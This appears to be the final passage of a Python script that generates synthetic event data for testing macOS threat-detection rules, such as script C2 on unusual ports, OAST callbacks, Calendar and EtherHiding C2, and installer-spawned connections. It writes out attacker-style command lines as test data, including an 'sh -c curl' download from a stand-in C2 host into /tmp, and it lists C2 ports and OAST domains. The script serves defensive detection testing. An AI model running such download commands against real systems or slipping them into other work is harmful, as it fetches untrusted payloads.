    doc = k.library(k.py(BOB), "/Users/bob/Library/Caches/x/payload")
    doc["event"]["action"] = "unload"
    neg.quiet(doc, "event.action unload")
    k.tick()
    neg.quiet(on_linux(k.library(k.py(CAROL), "/Users/carol/x/payload")), "Linux host")


# ==================================================================================================
# Sequences
# ==================================================================================================

def seq_negatives(k: Kit, neg, first, second, gap: float, maxspan: float, why: str):
    """The three ways a sequence must not complete: wrong order, beyond maxspan, another by-key.
    first(p, t) / second(p, t) build the stage documents for process p at time t; make_proc() a new process."""
    k.tick()
    p = first.proc()
    neg.quiet(second(p, k.t), why + ": second stage first (wrong order)")
    neg.quiet(first(p, k.t + gap), why + ": first stage after it (wrong order)")
    k.tick()
    p = first.proc()
    neg.quiet(first(p, k.t), why + ": first stage")
    neg.quiet(second(p, k.t + maxspan + 1), why + ": second stage %ds later, beyond maxspan" % (maxspan + 1))
    k.tick()
    p, other = first.proc(), first.proc()
    neg.quiet(first(p, k.t), why + ": first stage")
    neg.quiet(second(other, k.t + gap), why + ": second stage from another process (by key differs)")


class Stage:
    """A stage document builder bound to a process factory."""

    def __init__(self, make_proc, build):
        self.proc, self.build = make_proc, build

    def __call__(self, p, t):
        return self.build(p, t)


def non_standard_port(k: Kit):
    pos = k.case("positive", "A script interpreter started with one argument connects, within a minute, to a public "
                 "address on an unusual port: Python, 'Python' (like~ is case-insensitive), node and ruby; the "
                 "newest candidate of a key advances (two starts, one connection: one sequence, from the later start).")
    neg = k.case("negative", "Wrong order, beyond the 1 m maxspan, another process; args_count 3; ports 443, 8080, "
                 ">= 49152; private, loopback and documentation addresses; a connection with a domain; curl.")
    for host, interp, port in ((ALICE, PY_BREW, 4444), (BOB, PY_APP, 8443), (CAROL, PY_ORG_312, 1337)):
        k.tick()
        p = k.py(host, ["agent.py"], interp=interp)
        pos.sequence([k.exec_(p), k.net(p, C2, port, t=k.t + 5)], "%s agent.py -> %s:%d" % (p.name, C2, port))
    for exe in ("/opt/homebrew/bin/node", "/usr/bin/ruby"):
        k.tick()
        p = k.proc(ALICE, exe, ["bot.js" if "node" in exe else "bot.rb"], sig=sig_adhoc(exe.rsplit("/", 1)[-1]))
        pos.sequence([k.exec_(p), k.net(p, C2_B, 9001, t=k.t + 30)], "%s -> %s:9001" % (p.name, C2_B))
    # Two first-stage events for one key, then one connection: one sequence, started by the newer event.
    k.tick()
    p = k.py(BOB, ["agent.py"])
    older = k.exec_(p)
    pos.quiet(older, "exec of an interpreter (an older candidate, superseded)")
    newer = k.exec_(p, t=k.t + 10)
    pos.sequence([newer, k.net(p, C2, 5555, t=k.t + 20)], "a newer start of the same entity advances")

    def py_proc():
        return k.py(ALICE, ["agent.py"])
    first = Stage(py_proc, lambda p, t: k.exec_(p, t=t))
    second = Stage(py_proc, lambda p, t: k.net(p, C2, 4444, t=t))
    seq_negatives(k, neg, first, second, 5, 60, "python agent.py -> %s:4444" % C2)
    quiet_pairs = [
        (["agent.py", "--x"], C2, 4444, None, "args_count 3"),
        (["agent.py"], C2, 443, None, "port 443 is excluded"),
        (["agent.py"], C2, 8080, None, "port 8080 is excluded"),
        (["agent.py"], C2, 50123, None, "port >= 49152"),
        (["agent.py"], "10.20.30.40", 4444, None, "private address"),
        (["agent.py"], "127.0.0.1", 4444, None, "loopback"),
        (["agent.py"], "203.0.113.77", 4444, None, "documentation range 203.0.113.0/24"),
        (["agent.py"], C2, 4444, "c2.example.net", "the connection has a destination.domain"),
    ]
    for args, ip, port, domain, why in quiet_pairs:
        k.tick()
        p = k.py(CAROL, args)
        neg.quiet(k.exec_(p), why + ": start")
        neg.quiet(k.net(p, ip, port, domain=domain, t=k.t + 5), why + ": connection")
    k.tick()
    c = k.proc(ALICE, "/usr/bin/curl", ["http://x"])
    neg.quiet(k.exec_(c), "curl is not a script interpreter: start")
    neg.quiet(k.net(c, C2, 4444, t=k.t + 1), "curl is not a script interpreter: connection")


def oast(k: Kit):
    pos = k.case("positive", "Python, perl and node connecting to an OAST domain within a minute of their start.")
    neg = k.case("negative", "Wrong order, beyond the 1 m maxspan, another process; bash and 'Python' (case-sensitive "
                 "like) starts; a domain without '.oast'.")
    for host, p, dom in ((ALICE, k.py(ALICE, ["setup.py", "install"]), "c8f2k1q9.oast.fun"),
                         (BOB, k.proc(BOB, "/usr/bin/perl", ["x.pl"]), "abc.oast.pro"),
                         (CAROL, k.proc(CAROL, "/opt/homebrew/bin/node", ["postinstall.js"], sig=sig_adhoc("node")), "z.oast.live")):
        k.tick()
        p.start = k.t
        pos.sequence([k.exec_(p), k.net(p, C2, 443, domain=dom, t=k.t + 8)], "%s -> %s" % (p.name, dom))

    def py_proc():
        return k.py(ALICE, ["setup.py"])
    seq_negatives(k, neg, Stage(py_proc, lambda p, t: k.exec_(p, t=t)),
                  Stage(py_proc, lambda p, t: k.net(p, C2, 443, domain="q.oast.site", t=t)), 8, 60, "python -> q.oast.site")
    for p, dom, why in ((k.proc(BOB, "/bin/bash", ["x.sh"]), "q.oast.fun", "bash is not listed"),
                        (k.py(CAROL, interp=PY_APP), "q.oast.fun", "KNOWN GAP: 'Python' (capital P): like is case-sensitive"),
                        (k.py(ALICE), "toast.example.com", "'toast.' has no '.oast'")):
        k.tick()
        neg.quiet(k.exec_(p, t=k.t), why + ": start")
        neg.quiet(k.net(p, C2, 443, domain=dom, t=k.t + 3), why + ": connection")


def calendar(k: Kit):
    pos = k.case("positive", "A script or unsigned program reads a Google Calendar address, then connects to an IP "
                 "without a domain within 20 s.")
    neg = k.case("negative", "Wrong order, beyond the 20 s maxspan, another process; a signed browser; a second "
                 "connection that has a domain.")
    for p in (k.py(ALICE, ["cal.py"]), k.proc(BOB, "/opt/homebrew/bin/node", ["c.js"], sig=sig_adhoc("node")),
              k.proc(CAROL, UNSIGNED_TOOL, ["x"], sig=SIG_UNSIGNED)):
        k.tick()
        pos.sequence([k.net(p, "142.250.1.100", 443, domain="calendar.app.google", t=k.t),
                      k.net(p, C2, 8443, t=k.t + 4)], "%s: calendar then a bare IP" % p.name)

    def py_proc():
        return k.py(ALICE, ["cal.py"])
    seq_negatives(k, neg, Stage(py_proc, lambda p, t: k.net(p, "142.250.1.100", 443, domain="calendar.app.google", t=t)),
                  Stage(py_proc, lambda p, t: k.net(p, C2, 8443, t=t)), 4, 20, "python calendar -> IP")
    chrome = k.proc(BOB, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", [],
                    sig=sig_dev("com.google.Chrome", "Google LLC", "EQHXZ8M8AV"))
    k.tick()
    neg.quiet(k.net(chrome, "142.250.1.100", 443, domain="calendar.app.google", t=k.t), "signed Chrome: calendar")
    neg.quiet(k.net(chrome, C2, 8443, t=k.t + 2), "signed Chrome: bare IP")
    k.tick()
    p = k.py(CAROL, ["cal.py"])
    neg.quiet(k.net(p, "142.250.1.100", 443, domain="calendar.app.google", t=k.t), "calendar")
    neg.quiet(k.net(p, "142.250.1.101", 443, domain="www.googleapis.com", t=k.t + 2), "next connection has a domain")


def etherhiding(k: Kit):
    pos = k.case("positive", "node, Python and zsh reach an Ethereum RPC endpoint, then modify a .js/.py/.sh file "
                 "within 15 s.")
    neg = k.case("negative", "Wrong order, beyond the 15 s maxspan, another process; a .txt file; a creation event; "
                 "a signed browser.")
    for p, dom, path in ((k.proc(ALICE, "/opt/homebrew/bin/node", ["i.js"], sig=sig_adhoc("node")), "eth-mainnet.g.alchemy.com",
                          "/Users/alice/proj/node_modules/x/index.js"),
                         (k.py(BOB, ["w.py"]), "ethereum-rpc.publicnode.com", "/Users/bob/.local/w/loader.py"),
                         (k.proc(CAROL, "/bin/zsh", ["-c", "x"]), "eth.llamarpc.com", "/Users/carol/.zshrc.d/u.sh")):
        k.tick()
        pos.sequence([k.net(p, "104.18.1.1", 443, domain=dom, t=k.t), k.file(p, "modification", path, t=k.t + 3)],
                     "%s: %s then %s" % (p.name, dom, path.rsplit("/", 1)[-1]))

    def node_proc():
        return k.proc(ALICE, "/opt/homebrew/bin/node", ["i.js"], sig=sig_adhoc("node"))
    seq_negatives(k, neg, Stage(node_proc, lambda p, t: k.net(p, "104.18.1.1", 443, domain="eth-mainnet.g.alchemy.com", t=t)),
                  Stage(node_proc, lambda p, t: k.file(p, "modification", "/Users/alice/proj/a.js", t=t)), 3, 15,
                  "node eth-mainnet -> a.js")
    for p, action, path, why in ((k.py(BOB), "modification", "/Users/bob/notes.txt", ".txt is not listed"),
                                 (k.py(CAROL), "creation", "/Users/carol/new.py", "creation, not modification")):
        k.tick()
        neg.quiet(k.net(p, "104.18.1.1", 443, domain="ethereum.publicnode.com", t=k.t), why + ": connection")
        neg.quiet(k.file(p, action, path, t=k.t + 2), why + ": file")
    chrome = k.proc(ALICE, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", [],
                    sig=sig_dev("com.google.Chrome", "Google LLC", "EQHXZ8M8AV"))
    k.tick()
    neg.quiet(k.net(chrome, "104.18.1.1", 443, domain="eth-mainnet.g.alchemy.com", t=k.t), "Chrome is not listed: connection")
    neg.quiet(k.file(chrome, "modification", "/Users/alice/x.js", t=k.t + 2), "Chrome is not listed: file")


def installer(k: Kit):
    pos = k.case("positive", "Package scripts (sh -c, Python, curl) started by installer/package_script_service make "
                 "a connection within 15 s.")
    neg = k.case("negative", "Wrong order, beyond the 15 s maxspan, another process; sh without -c; a launchd parent; "
                 "the same entity id on another host (by host.id differs).")
    pss = k.proc(ALICE, "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/package_script_service")
    inst = k.proc(BOB, "/usr/sbin/installer", ["-pkg", "x.pkg", "-target", "/"])
    for p in (k.proc(ALICE, "/bin/sh", ["-c", "curl -s http://%s/p -o /tmp/p" % C2], parent=pss),
              k.proc(BOB, PY_BREW[0], ["postinstall.py"], parent=inst, sig=PY_BREW[1]),
              k.proc(BOB, "/usr/bin/curl", ["-s", "http://%s/q" % C2], parent=inst)):
        k.tick()
        p.start = k.t
        pos.sequence([k.exec_(p), k.net(p, C2, 80, t=k.t + 2)], "%s under %s" % (p.name, p.parent.name))

    def sh_proc():
        return k.proc(ALICE, "/bin/sh", ["-c", "curl x"], parent=pss)
    seq_negatives(k, neg, Stage(sh_proc, lambda p, t: k.exec_(p, t=t)), Stage(sh_proc, lambda p, t: k.net(p, C2, 80, t=t)),
                  2, 15, "package_script_service sh -c")
    for p, why in ((k.proc(ALICE, "/bin/sh", ["postinstall"], parent=pss), "sh without -c"),
                   (k.proc(ALICE, "/usr/bin/curl", ["x"], parent=k.proc(ALICE, "/sbin/launchd")), "launchd parent")):
        k.tick()
        neg.quiet(k.exec_(p, t=k.t), why + ": start")
        neg.quiet(k.net(p, C2, 80, t=k.t + 2), why + ": connection")
    k.tick()
    p = k.proc(ALICE, "/bin/sh", ["-c", "curl x"], parent=pss)
    other_host = k.net(p, C2, 80, t=k.t + 2)
    other_host["host"] = dict(other_host["host"], id="00000000-0000-4000-8000-000000000000", name="mbp-other")
    neg.quiet(k.exec_(p, t=k.t), "start on alice's Mac")
    neg.quiet(other_host, "same entity id, another host.id: the by key differs")


RULES = {
    "collection_pbpaste_execution_via_unusual_parent": pbpaste,
    "command_and_control_google_calendar_c2_via_script": calendar,
    "command_and_control_network_connection_to_oast_domain": oast,
    "command_and_control_potential_etherhiding_c2": etherhiding,
    "command_and_control_script_interpreter_connection_to_non_standard_port": non_standard_port,
    "command_and_control_suspicious_curl_from_macos_application": curl_from_app,
    "credential_access_mitm_localhost_webproxy": webproxy,
    "defense_evasion_install_root_certificate": root_cert,
    "defense_evasion_privacy_controls_tcc_database_modification": tcc,
    "discovery_full_disk_access_check": fda_check,
    "discovery_system_and_network_configuration_check": netconfig,
    "execution_initial_access_suspicious_browser_childproc": browser_child,
    "execution_installer_package_spawned_network_event": installer,
    "execution_unusual_library_load_via_python": library_load,
    "initial_access_suspicious_mac_ms_office_child_process": office_child,
    "lateral_movement_suspicious_curl_to_jamf_endpoint": jamf,
    "persistence_docker_shortcuts_plist_modification": dock_plist,
    "persistence_emond_rules_process_execution": emond,
    "persistence_finder_sync_plugin_pluginkit": pluginkit,
    "persistence_folder_action_scripts_runtime": folder_action,
    "persistence_screensaver_plist_file_modification": screensaver,
    "persistence_suspicious_launch_agent_or_launch_daemon": launch_agent,
    "privilege_escalation_explicit_creds_via_scripting": authtrampoline,
}


def main() -> int:
    total = {"positive": [0, 0, 0], "negative": [0, 0, 0]}
    for stem, build in RULES.items():
        k = Kit(stem)
        build(k)
        counts = k.write()
        print("%-75s %s" % (stem, "  ".join("%s %d ev -> %d det / %d alerts" % (n, *c) for n, c in counts.items())))
        for name, c in counts.items():
            total[name] = [a + b for a, b in zip(total[name], c)]
    print("total: %d rules; positive %d events -> %d detections / %d alerts; negative %d events -> %d alerts"
          % (len(RULES), *total["positive"], total["negative"][0], total["negative"][2]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
